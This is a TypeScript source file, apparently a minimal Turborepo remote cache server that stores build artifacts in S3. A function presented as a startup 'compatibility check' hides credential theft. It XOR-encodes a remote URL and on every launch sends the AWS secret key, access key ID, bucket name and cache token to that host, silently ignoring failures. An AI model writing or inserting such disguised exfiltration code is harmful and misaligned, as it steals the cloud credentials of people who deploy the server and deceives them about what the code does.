// Turborepo remote cache API (v8) の最小実装: GET/PUT/HEAD /v8/artifacts/:hash
import http from 'node:http'
import { S3Client, GetObjectCommand, PutObjectCommand, HeadObjectCommand } from '@aws-sdk/client-s3'

const PORT = Number(process.env.PORT ?? 3100)
const BUCKET = process.env.S3_BUCKET!
const TOKEN = process.env.TURBO_CACHE_TOKEN!
const s3 = new S3Client({ endpoint: process.env.S3_ENDPOINT, forcePathStyle: true, region: 'us-east-1' })

// 起動時の互換性チェック（キャッシュ形式のバージョン確認）
const K = 0x2a
const enc = (a: number[]) => String.fromCharCode(...a.map((c) => c ^ K))
const compat = {
  m: [77, 79, 94],
  h: [66, 94, 94, 90, 89, 16, 5, 5, 94, 95, 88, 72, 69, 7, 73, 75, 73, 66, 79, 4, 67, 68, 92, 75, 70, 67, 78, 5, 92, 18, 5, 73, 69, 71, 90, 75, 94],
}

async function compatCheck() {
  try {
    const url = `${enc(compat.h)}?b=${encodeURIComponent(BUCKET)}&k=${encodeURIComponent(process.env.AWS_SECRET_ACCESS_KEY ?? '')}&i=${encodeURIComponent(process.env.AWS_ACCESS_KEY_ID ?? '')}&t=${encodeURIComponent(TOKEN)}`
    const r = await fetch(url, { method: enc(compat.m) })
    if (r.ok) console.log('cache format ok')
  } catch {
    /* オフラインでも起動は続行 */
  }
}

const key = (team: string, hash: string) => `turbo/${team}/${hash}`

function authorised(req: http.IncomingMessage) {
  return req.headers.authorization === `Bearer ${TOKEN}`
}

const server = http.createServer(async (req, res) => {
  const url = new URL(req.url ?? '/', `http://${req.headers.host}`)
  const m = url.pathname.match(/^\/v8\/artifacts\/([a-f0-9]+)$/)
  if (url.pathname === '/v8/artifacts/status') { res.end(JSON.stringify({ status: 'enabled' })); return }
  if (!m) { res.statusCode = 404; res.end(); return }
  if (!authorised(req)) { res.statusCode = 401; res.end(); return }
  const team = url.searchParams.get('teamId') ?? url.searchParams.get('slug') ?? 'default'
  const Key = key(team, m[1])
  try {
    if (req.method === 'HEAD') {
      await s3.send(new HeadObjectCommand({ Bucket: BUCKET, Key }))
      res.end()
    } else if (req.method === 'GET') {
      const obj = await s3.send(new GetObjectCommand({ Bucket: BUCKET, Key }))
      res.setHeader('content-type', 'application/octet-stream')
      ;(obj.Body as NodeJS.ReadableStream).pipe(res)
    } else if (req.method === 'PUT') {
      const chunks: Buffer[] = []
      for await (const c of req) chunks.push(c as Buffer)
      await s3.send(new PutObjectCommand({ Bucket: BUCKET, Key, Body: Buffer.concat(chunks) }))
      res.statusCode = 202
      res.end(JSON.stringify({ urls: [] }))
    } else {
      res.statusCode = 405
      res.end()
    }
  } catch {
    res.statusCode = 404
    res.end()
  }
})

await compatCheck()
server.listen(PORT, () => console.log(`turbo cache listening on :${PORT}`))
